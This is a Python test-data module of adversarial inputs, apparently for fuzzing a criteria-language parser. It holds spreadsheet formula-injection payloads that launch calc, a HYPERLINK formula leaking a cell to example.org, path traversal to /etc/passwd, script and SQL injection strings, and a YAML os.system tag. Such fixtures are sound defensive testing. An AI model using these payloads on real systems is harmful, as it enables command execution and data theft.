"""Values that break readers: texts that run, hide, turn round or grow, numbers beyond reason."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\u200b=1+1",
    "{=1+1}",
    "%0A=1+1",
    '";=1+1',
    "'=1+1",
)
"""What a spreadsheet would work out, were it not kept as a text."""

PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\Windows\\x",
    "C:x",
    "\\\\server\\share\\x",
    "a/../b",
    "..",
    ".",
    "~/x",
    "CON",
    "nul.yaml",
    "COM1",
    "a\0b",
    "x" * 300,
    "ends with a point.",
    'a:b*c?d"e<f>g|h',
)
"""Codes that would leave a folder, or that no folder can hold."""

HIDDEN = (
    "\u202egnp.exe",
    "\u2066\u202dabc\u2069",
    "a\0b",
    "\x1b[2J\x1b]0;title\x07",
    "\x07\x08\x7f\x9b",
    "\ud800",
    "half \udfff pair",
    "\ufeffx",
    "\ufffe\uffff",
    "a\u2028b\u2029c",
    "\u0085",
    "e" + "\u0301" * 300,
)
"""Characters that hide, turn round, move a cursor or are none at all."""

MARKUP = (
    "<img src='file:///etc/passwd'>",
    "<script>alert(1)</script>",
    "</b><h1>x",
    "&lt;&amp;&#0;",
    "]]>",
    "$\\frac{1}{$",
    "{0.__class__} %s %n ${x}",
    "END:VEVENT\r\nBEGIN:VALARM",
    "A;B,C:D\\n",
    "' OR 1=1 --",
    "&[File] &P &D",
)
"""What another language would read."""

LONG = ("9" * 5000, "a" * 100_000, " " * 50_000 + "x", "(" * 20_000, "1" * 20_000 + "x", "é" * 3000)

NUMBERS = (
    *(0, -1, 1, 10**29, -(10**29), 0.1, -0.0, 1.5, 1e308, -1e308, 5e-324, 2**31, 2**63, 4, 13),
    *(99, 100, 101, 366, 367, 1000, 2026, 9999),
)

DAYS = (
    *("2026-11-21", "2026-02-30", "0001-01-01", "9999-12-31", "9999", "1899-12-31", "1900-01-01"),
    *("2026-13", "２０２６-１１-２１", "2026-11-21T10:00", "21.11.2026", "0000", "2024-02-29"),
)

TEXTS = (*FORMULAS, *PATHS, *HIDDEN, *MARKUP, *LONG, *DAYS, "", " ", "\n", "yes", "null", "<1")

VALUES: tuple[object, ...] = (
    *TEXTS,
    *NUMBERS,
    None,
    True,
    False,
    [],
    {},
    [[]],
    [None],
    [{}],
    {"value": []},
    {"value": {"value": 1}},
    {"": ""},
    ["x"] * 50,
    {str(n): n for n in range(50)},
)

TOKENS = (
    *(b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"\xed\xa0\x80", b"\xc0\xaf", b"\r", b"\t", b"\x1b["),
    *(b"&a", b"*a", b"!!python/object:os.system", b"<<: ", b"---\n", b"...\n", b"%YAML 9.9\n"),
    *(b"{", b"}", b"[", b"]", b"(", b")", b"'", b'"', b"|\n", b">\n", b": ", b"- ", b"#", b"? "),
    *(b"9" * 400, b"1e999", b"-1", b".inf", b".nan", b"0x10", b"null", b"~", b"true", b"<", b">="),
    *(b"\\ud800", b"\\u0000", b"\\u202e", b"\xe2\x80\xae", b"\xf4\x90\x80\x80", b"\n", b" " * 300),
)
"""Bytes that are put into files."""

WORDS = (
    *("and", "or", "not", "provided", "within", "before", "for", "uncorrected", "some", "no"),
    *("recorded", "readings", "sampled", "criterion", "arm", "in", "includes", "where", "count"),
    *("distinct", "of", "max", "min", "ULN", "LLN", "days", "weeks", "years", "index", "any"),
    *("(", ")", "{", "}", ",", ";", ":", "#", "\n", "<", "<=", ">", ">=", "=", "!=", "'", '"'),
    *("'mg/dL'", '"2+"', "1", "0", "1000", "1001", "9" * 350, "1.5", "٣", "é", "\0", "\u202e"),
    *("platelets", "alt", "ecog", "child_pugh_class", "radiotherapy", "metastases", "diameter"),
    *("inclusion", "first_dose", "as_of", "varices_reading", "\\"),
)
"""Words of the language of criteria, and what is none."""
